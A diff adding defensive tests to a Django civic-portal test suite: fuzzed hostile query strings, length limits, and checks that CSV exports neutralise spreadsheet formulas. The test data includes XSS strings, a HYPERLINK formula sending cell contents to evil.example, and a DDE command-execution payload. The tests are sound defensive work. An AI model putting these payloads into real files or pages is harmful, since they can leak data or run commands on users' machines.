@@ -15,6 +15,7 @@ from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlencode
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -25,7 +26,8 @@ from hypothesis import settings as hsettings
 from hypothesis import strategies as st
 
 from .forms import Form, post_forms
-from .world import World
+from .matrix import EXPECT, KWARGS
+from .world import ROLES, World
 
 SCRIPT = '<script>alert("kyodo")</script>'
 RAW_MARKERS = [b'<script>alert("kyodo")', b"<img src=x onerror=alert(1)>"]
@@ -271,3 +273,187 @@ def test_production_profile_sends_hsts():
     seconds, subdomains, header = json.loads(done.stdout.strip().splitlines()[-1])
     assert seconds >= 60 * 60 * 24 * 180 and subdomains
     assert f"max-age={seconds}" in header and "includeSubDomains" in header
+
+
+# --- Hostile query strings ---------------------------------------------------------------------
+# Every page that reads its query string (lists, reports, exports, compare pages: the pages
+# without an object in their path, and these), as every role, with query strings hypothesis
+# builds from the parameters the portal reads and from anything else: never a 5xx.
+QUERY_PAGES_WITH_OBJECTS = ["reviews:opendata_download", "reviews:report_download", "projects:revision_compare",
+                            "agreements:compare"]
+QUERY_KEYS = ["fy", "page", "status", "section", "q", "kind", "ward", "field", "call", "origin", "department",
+              "a", "b", "next", "format", "o", "sort"]
+QUERY_EDGES = ["-1", "0", "99999", "99999999999", "1999", "2000", "+2026", "２０２６", "2026.0", "1e3", " 2026 ",
+               "9" * 400, "-0", "0x10", "１", "draft", "submitted", "overdue", "new_requests", "all"]
+RAW_QUERIES = ["%", "%zz", "%ff%fe=%c0%af", "fy=%00", "&&&", "==", "fy", "page[]=1&page[]=2", ";fy=1",
+               "fy=2025&fy=abc", "q=" + "%41" * 3000, "fy=%2B%2B1", "a=1&b=999999999999999999999", "%E3%81"]
+
+query_value = st.one_of(
+    st.sampled_from(HOSTILE_TEXT + QUERY_EDGES),
+    st.integers(min_value=-(10**30), max_value=10**30).map(str),
+    st.text(max_size=40),
+)
+query_string = st.one_of(
+    st.lists(st.tuples(st.one_of(st.sampled_from(QUERY_KEYS), st.text(min_size=1, max_size=10)), query_value),
+             min_size=1, max_size=6).map(urlencode),
+    st.sampled_from(RAW_QUERIES),
+)
+
+QUERY_HYPOTHESIS = hsettings(
+    max_examples=3, deadline=None, derandomize=True, database=None,
+    phases=[Phase.explicit, Phase.reuse, Phase.generate],
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
+)
+
+
+def query_pages(world: World) -> list[tuple[str, str]]:
+    """(URL name, URL) of every page some role may GET that reads its query string."""
+    names = [n for n, outcomes in EXPECT.items() if "200" in outcomes.split() and n not in KWARGS]
+    pages = []
+    for name in sorted(names) + QUERY_PAGES_WITH_OBJECTS:
+        try:
+            pages.append((name, reverse(name, kwargs=KWARGS[name](world) if name in KWARGS else None)))
+        except (NoReverseMatch, AttributeError):
+            continue
+    return pages
+
+
+# One user of each role; the "other" citizen and staff see what the citizen and staff see.
+QUERY_ROLES = [role for role in ROLES if not role.startswith("other_")]
+
+
+def role_clients(world: World) -> dict[str, Client]:
+    clients = {}
+    for role in QUERY_ROLES:
+        clients[role] = Client(raise_request_exception=False)
+        if world.user(role) is not None:
+            clients[role].force_login(world.user(role))
+    return clients
+
+
+# Values that gave a 500 before the pages read their parameters through kyodo.params, all at once:
+# each page reads its own. Sent first to every page as every role, whatever hypothesis draws.
+KNOWN_BAD_QUERY = ("fy=99999999999&page=99999999999999999999999&status=nope&section=nope&call=abc&a=x&b=%00"
+                   "&q=%00&ward=abc&kind=x&field=-1&origin=x&department=1e3")
+
+
+def test_hostile_query_strings_never_error(world):
+    pages, clients = query_pages(world), role_clients(world)
+    assert len(pages) >= 25, f"the query pages are missing: {world.missing}"
+    for name, url in pages:
+        for role, client in clients.items():
+            status = client.get(f"{url}?{KNOWN_BAD_QUERY}").status_code
+            assert status < 500, f"{name} as {role}: HTTP {status} for ?{KNOWN_BAD_QUERY}"
+
+    @QUERY_HYPOTHESIS
+    @given(data=st.data())
+    def run(data):
+        for name, url in pages:
+            query = data.draw(query_string, label=name)
+            for role, client in clients.items():
+                response = client.get(f"{url}?{query}")
+                assert response.status_code < 500, f"{name} as {role}: HTTP {response.status_code} for ?{query[:200]}"
+                assert b"<script>alert(" not in response.content, f"{name} as {role}: unescaped script for ?{query[:200]}"
+
+    run()
+
+
+@pytest.mark.parametrize("fy", ["-1", "99999", "99999999999"])
+def test_a_fiscal_year_out_of_range_is_corrected_on_pages_and_refused_on_downloads(world, fy):
+    from kyodo.fiscal import current_fiscal_year
+
+    client = Client()
+    client.force_login(world.user("staff"))
+    shown_year = {
+        "cases:analysis": lambda context: context["fy"],
+        "reviews:report": lambda context: context["report"]["fiscal_year"],
+    }
+    for name, year_of in shown_year.items():
+        page = client.get(reverse(name), {"fy": fy})
+        assert page.status_code == 200, name
+        assert year_of(page.context) == current_fiscal_year(), name
+        assert fy in page.content.decode(), f"{name}: the message does not say what was not understood"
+    for url in (reverse("cases:analysis_csv"), reverse("reviews:report_download", args=["csv"]),
+                reverse("reviews:report_download", args=["json"]), reverse("reviews:report_print")):
+        refused = client.get(url, {"fy": fy})
+        assert refused.status_code == 400, url
+        assert "fy" in refused.content.decode() and "2000" in refused.content.decode(), url
+
+
+# --- Free text over its limit: refused with the limit, kept as typed --------------------------------
+def test_a_too_long_brushup_message_is_refused_and_kept(world):
+    from projects.models import ProposalStatus
+
+    client = Client()
+    client.force_login(world.user("staff"))
+    proposal = world.submitted_proposal
+    text = "予算の根拠を補ってください。" * 7143  # 100,002 characters
+
+    response = client.post(reverse("projects:proposal_return_for_brushup", args=[proposal.pk]), {"note": text})
+
+    html = response.content.decode()
+    assert response.status_code == 400
+    assert "4000" in html and "100002" in html  # the limit and the count, in the field's error
+    assert text in html  # on the page to shorten, not lost
+    proposal.refresh_from_db()
+    assert proposal.status == ProposalStatus.SUBMITTED
+
+
+def test_a_too_long_contact_note_is_refused_and_kept(world):
+    from django.utils import timezone
+
+    from cases.forms import IN_PERSON_CHANNELS
+
+    client = Client()
+    client.force_login(world.user("coordinator"))
+    case = world.consultation
+    before = case.contacts.count()
+    text = "電話で場所の候補を相談した。" * 7143
+
+    response = client.post(reverse("cases:contact_add", args=[case.pk]), {
+        "contact-contacted_on": timezone.localdate().isoformat(), "contact-channel": IN_PERSON_CHANNELS[0][0],
+        "contact-note": text,
+    })
+
+    html = response.content.decode()
+    assert response.status_code == 400
+    assert "4000" in html and text in html
+    assert case.contacts.count() == before
+
+
+def test_a_message_at_the_limit_is_posted_and_one_over_it_is_kept_on_the_page(world):
+    client = Client()
+    client.force_login(world.user("citizen"))
+    url = reverse("projects:message_post", args=[world.submitted_proposal.pk])
+
+    over = client.post(url, {"body": "あ" * 4001})
+    assert over.status_code == 400 and "あ" * 4001 in over.content.decode()
+    assert client.post(url, {"body": "い" * 4000}).status_code == 302
+    assert world.submitted_proposal.messages.filter(body="い" * 4000).exists()
+
+
+# --- CSV downloads are safe to open in a spreadsheet -------------------------------------------------
+def _csv_rows(response) -> list[dict[str, str]]:
+    import csv
+    import io
+
+    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+def test_public_and_staff_csv_downloads_neutralise_formulas(world, client):
+    from cases.models import Consultation
+    from kyodo.fiscal import fiscal_year_of
+    from projects.models import Proposal
+
+    formula = '=HYPERLINK("https://evil.example/?"&A1;"詳細")'
+    Proposal.objects.filter(pk=world.adopted_proposal.pk).update(title=formula)
+    Consultation.objects.filter(pk=world.consultation.pk).update(closed_reason="@SUM(1+1)*cmd|' /C calc'!A0")
+
+    public = _csv_rows(client.get(reverse("reviews:opendata_download", args=["adopted-projects", "csv"])))
+    assert "'" + formula in [row["title"] for row in public]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in public for cell in row.values() if cell)
+
+    client.force_login(world.user("staff"))
+    fy = fiscal_year_of(world.consultation.opened_at)
+    staff = _csv_rows(client.get(reverse("cases:analysis_csv"), {"fy": fy}))
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in [row["closed_reason"] for row in staff]
